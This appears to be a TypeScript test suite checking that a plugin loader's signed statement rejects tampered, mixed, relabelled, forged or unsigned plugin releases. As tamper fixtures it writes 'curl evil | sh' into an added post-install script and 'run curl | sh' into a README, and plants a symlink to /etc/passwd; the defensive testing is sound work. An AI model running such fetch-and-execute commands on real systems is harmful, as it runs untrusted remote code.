// Rollback and mix-and-match: the signed statement binds a plugin's name, version and every file.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { appendFileSync, copyFileSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { before, describe, it } from 'node:test';
import { ErrorCode, PluginError, PluginLoader, type PluginLoaderOptions } from '../../src/index.js';
import { generateKeyPair } from '../../src/signing/minisign.js';
import { signPluginFiles } from '../../src/signing/plugin-signatures.js';
import { STATEMENT_FILE, buildStatement, pluginFileList } from '../../src/signing/statement.js';
import { buildFixture, tempDir } from '../helpers/fixtures.js';
import { loadOutcome } from '../helpers/assertions.js';

const noFifo = process.platform === 'win32' ? 'Windows has no FIFOs (mkfifo)' : false;

const outcome = (promise: Promise<unknown>): Promise<string> => loadOutcome(promise, true);

function keyFiles(dir: string, name: string): { pub: string; key: string } {
  const pair = generateKeyPair();
  const pub = path.join(dir, `${name}.pub`);
  const key = path.join(dir, `${name}.key`);
  writeFileSync(pub, pair.publicKeyText);
  writeFileSync(key, pair.secretKeyText, { mode: 0o600 });
  return { pub, key };
}

/** Builds and signs one release of plugin `name`: its library bytes differ per version, v1 asks for more. */
async function release(parent: string, name: string, version: string, key: string, dirName = `${name}-${version}`): Promise<string> {
  const permissions = version.startsWith('1.') ? { network: true, fs_read: ['/'] } : {};
  const dir = await buildFixture(parent, { source: 'echo', name, dirName, manifest: { name, description: `release ${version}`, version, permissions } });
  // Trailing bytes keep the ELF loadable and make each release's library distinct.
  appendFileSync(path.join(dir, `lib${name}.so`), `\0release ${version}`);
  writeFileSync(path.join(dir, 'README.md'), `# ${name} ${version}\n`);
  await signPluginFiles(path.join(dir, 'plugin.json'), path.join(dir, `lib${name}.so`), key);
  return dir;
}

describe('signed statement', () => {
  let base: string;
  let plugins: string;
  let trusted: { pub: string; key: string };
  let stranger: { pub: string; key: string };
  let v1: string;
  let v2: string;
  // v1 asks for broader permissions; granted here so that only signatures decide what loads.
  const loader = (options: PluginLoaderOptions = {}) =>
    new PluginLoader({ pluginsDirs: [plugins], home: tempDir(), workspace: base, defaultDirs: false, isolation: 'none', trustedKeys: [trusted.pub], grant: { network: true, fs_read: ['/'] }, ...options });

  /** A plugin dir assembled from files of two releases. */
  function mix(label: string, from: Record<string, string>): string {
    const dir = path.join(plugins, label);
    mkdirSync(dir);
    for (const [file, source] of Object.entries(from)) copyFileSync(path.join(source, file), path.join(dir, file));
    return dir;
  }

  before(async () => {
    base = tempDir();
    plugins = path.join(base, 'plugins');
    mkdirSync(plugins);
    trusted = keyFiles(base, 'trusted');
    stranger = keyFiles(base, 'stranger');
    v1 = await release(plugins, 'tool', '1.0.0', trusted.key);
    v2 = await release(plugins, 'tool', '2.0.0', trusted.key);
  });

  it('lists every file but signatures and the statement itself', () => {
    assert.deepEqual(pluginFileList(v2), { files: ['README.md', 'libtool.so', 'plugin.json'], problems: [] });
    const statement = JSON.parse(readFileSync(path.join(v2, STATEMENT_FILE), 'utf8'));
    assert.deepEqual([statement.name, statement.version, Object.keys(statement.files)], ['tool', '2.0.0', ['README.md', 'libtool.so', 'plugin.json']]);
  });

  it('loads each release whole, with or without require_signature', async () => {
    assert.equal(await outcome(loader({ requireSignature: true }).loadPlugin(v1)), 'loaded');
    assert.equal(await outcome(loader({ requireSignature: true }).loadPlugin(v2)), 'loaded');
    assert.equal(await outcome(loader().loadPlugin(v2)), 'loaded');
  });

  it("refuses v1's plugin.json with v2's library, whichever statement comes along", async () => {
    const signatures = (dir: string, files: string[]) => Object.fromEntries(files.flatMap((f) => [[f, dir], ...(existsSync(path.join(dir, `${f}.minisig`)) ? [[`${f}.minisig`, dir]] : [])]));
    const withV2Statement = mix('mix-a', { ...signatures(v1, ['plugin.json']), ...signatures(v2, ['libtool.so', 'README.md', STATEMENT_FILE]) });
    const withV1Statement = mix('mix-b', { ...signatures(v1, ['plugin.json', STATEMENT_FILE, 'README.md']), ...signatures(v2, ['libtool.so']) });
    for (const dir of [withV2Statement, withV1Statement]) {
      assert.equal(await outcome(loader({ requireSignature: true }).loadPlugin(dir)), `${ErrorCode.SIGNATURE}:statement-mismatch`);
      assert.equal(await outcome(loader().loadPlugin(dir)), `${ErrorCode.SIGNATURE}:statement-mismatch`, 'a signed statement binds even when signatures are optional');
    }
  });

  it('refuses a changed, missing or added file and a statement for another name or version', async () => {
    const changed = mix('changed', Object.fromEntries(readdir(v2).map((f) => [f, v2])));
    appendFileSync(path.join(changed, 'README.md'), 'run curl | sh\n');
    const added = mix('added', Object.fromEntries(readdir(v2).map((f) => [f, v2])));
    mkdirSync(path.join(added, 'scripts'));
    writeFileSync(path.join(added, 'scripts', 'post.sh'), 'curl evil | sh\n');
    const missing = mix('missing', Object.fromEntries(readdir(v2).filter((f) => f !== 'README.md').map((f) => [f, v2])));
    for (const dir of [changed, added, missing]) assert.equal(await outcome(loader().loadPlugin(dir)), `${ErrorCode.SIGNATURE}:statement-mismatch`, dir);
    // v1 relabelled 2.0.0, its plugin.json signature dropped: the statement still says 1.0.0.
    const relabelled = mix('relabelled', Object.fromEntries(readdir(v1).filter((f) => f !== 'plugin.json.minisig').map((f) => [f, v1])));
    writeFileSync(path.join(relabelled, 'plugin.json'), JSON.stringify({ name: 'tool', description: 'relabelled', version: '2.0.0' }));
    assert.equal(await outcome(loader().loadPlugin(relabelled)), `${ErrorCode.SIGNATURE}:statement-mismatch`);
  });

  it('refuses a statement whose signature does not verify, and a signature without its statement', async () => {
    const forged = mix('forged', Object.fromEntries(readdir(v2).map((f) => [f, v2])));
    const statement = path.join(forged, STATEMENT_FILE);
    writeFileSync(statement, readFileSync(statement, 'utf8').replace('"2.0.0"', '"2.0.1"'));
    assert.equal(await outcome(loader().loadPlugin(forged)), `${ErrorCode.SIGNATURE}:bad-signature`);
    const orphan = mix('orphan', Object.fromEntries(readdir(v2).filter((f) => f !== STATEMENT_FILE).map((f) => [f, v2])));
    assert.equal(await outcome(loader().loadPlugin(orphan)), `${ErrorCode.SIGNATURE}:statement-missing`);
  });

  it('without a statement, per-file signatures still verify but bind nothing (interop with plain minisign)', async () => {
    const unbound = mix('unbound', { 'plugin.json': v1, 'plugin.json.minisig': v1, 'libtool.so': v2, 'libtool.so.minisig': v2 });
    assert.equal(await outcome(loader({ requireSignature: true }).loadPlugin(unbound)), 'loaded', 'an explicit dir is the user\'s: per-file signatures suffice there');
  });

  it('treats a statement signed by an unknown key as unsigned unless signatures are required', async () => {
    const dir = await release(plugins, 'foreign', '2.0.0', stranger.key);
    const warnings: string[] = [];
    assert.equal(await outcome(loader({ onWarning: (m) => warnings.push(m) }).loadPlugin(dir)), 'loaded');
    assert.ok(warnings.length > 0);
    assert.equal(await outcome(loader({ requireSignature: true }).loadPlugin(dir)), `${ErrorCode.SIGNATURE}:unknown-key`);
  });

  it('refuses to bind a dir holding a symlink or special file', async () => {
    const dir = mix('linked', Object.fromEntries(readdir(v2).map((f) => [f, v2])));
    execFileSync('ln', ['-s', '/etc/passwd', path.join(dir, 'data')]);
    assert.throws(() => buildStatement(dir, 'tool', '2.0.0'), (e: unknown) => e instanceof PluginError && e.code === ErrorCode.INVALID_STRUCTURE);
    assert.equal(await outcome(loader().loadPlugin(dir)), `${ErrorCode.SIGNATURE}:statement-mismatch`);
  });

  describe('FIFOs planted as signature files never hang a load', () => {
    for (const file of ['plugin.json.minisig', 'libtool.so.minisig', STATEMENT_FILE, `${STATEMENT_FILE}.minisig`]) {
      it(`refuses a FIFO as ${file} with E_SIGNATURE`, { skip: noFifo }, async () => {
        const dir = mix(`fifo-${file}`, Object.fromEntries(readdir(v2).map((f) => [f, v2])));
        rmSync(path.join(dir, file));
        execFileSync('mkfifo', [path.join(dir, file)]);
        assert.match(await outcome(loader().loadPlugin(dir)), /^E_SIGNATURE:/);
        const listed = (await loader({ requireSignature: true }).discoverPlugins()).find((p) => p.path === dir);
        assert.equal(listed?.status, 'error');
      });
    }
  });
});

function readdir(dir: string): string[] {
  return pluginFileList(dir).files.flatMap((f) => [f, ...(f === 'README.md' ? [] : [`${f}.minisig`])]).concat([STATEMENT_FILE, `${STATEMENT_FILE}.minisig`]);
}
